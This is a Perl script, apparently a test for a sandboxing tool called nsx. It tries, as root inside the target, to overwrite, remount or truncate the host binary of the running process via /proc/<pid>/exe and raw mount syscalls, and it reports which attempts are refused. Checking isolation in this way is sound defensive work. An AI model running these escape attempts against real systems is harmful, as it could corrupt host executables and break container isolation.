# Attacks by root inside a target on the file that nsx runs from. nsx is the process called $ARGV[0].
use strict; use warnings; use Fcntl; use Errno qw(ETXTBSY);
my ($pid, $exe);
until ($pid) {
    for (glob '/proc/[0-9]*') {
        open my $line, '<', "$_/cmdline" or next;
        ($pid) = /(\d+)/ if (<$line> // '') =~ /^\Q$ARGV[0]\E\0unshare/;
    }
}
$exe = "/proc/$pid/exe";
# The process is inside the target and can be examined.
sysopen my $held, $exe, O_RDONLY or die "cannot read: $!";
my $path = '/proc/self/fd/' . fileno $held;
sub tried { my ($what, $done) = @_; print $done ? "DONE $what\n" : "refused $what: $!\n"; }
sub opened {
    my ($what, $where) = @_;
    for (['WRONLY', O_WRONLY], ['RDWR', O_RDWR], ['APPEND', O_WRONLY | O_APPEND], ['TRUNC', O_WRONLY | O_TRUNC]) {
        my ($mode, $flags) = @$_;
        my $file;
        tried("$what $mode", sysopen($file, $where, $flags) && syswrite($file, "hostile"));
    }
}
my $nothing = '';
my $attributes = pack 'Q4', 0, 1, 0, 0; # no longer read-only
sub setattr { syscall(442, $_[0], $nothing, 0x1000, $attributes, 32) == 0 }
sub mounts {
    my $what = shift;
    mkdir 'point'; open my $made, '>', 'point/file';
    tried("$what mount_setattr", setattr(fileno $held));
    my $tree = syscall(428, -100, my $from = $path, 1);
    tried("$what open_tree", $tree >= 0);
    tried("$what mount_setattr of it", setattr($tree)) if $tree >= 0;
    # MS_BIND; MS_BIND|MS_REMOUNT; MS_REMOUNT
    tried("$what bind", syscall(165, $from, my $to = 'point/file', 0, 4096, 0) == 0);
    tried("$what remount $_", syscall(165, my $none = 'none', $from, 0, $_, 0) == 0) for 4128, 32;
}
opened('running', $exe);
mounts('running');
kill 'KILL', $pid;
for (1 .. 100) {
    my $file;
    last if sysopen($file, $path, O_WRONLY) or !$!{ETXTBSY};
    select undef, undef, undef, 0.05;
}
opened('ended', $path);
mounts('ended');
tried('ended truncate', truncate $path, 3);
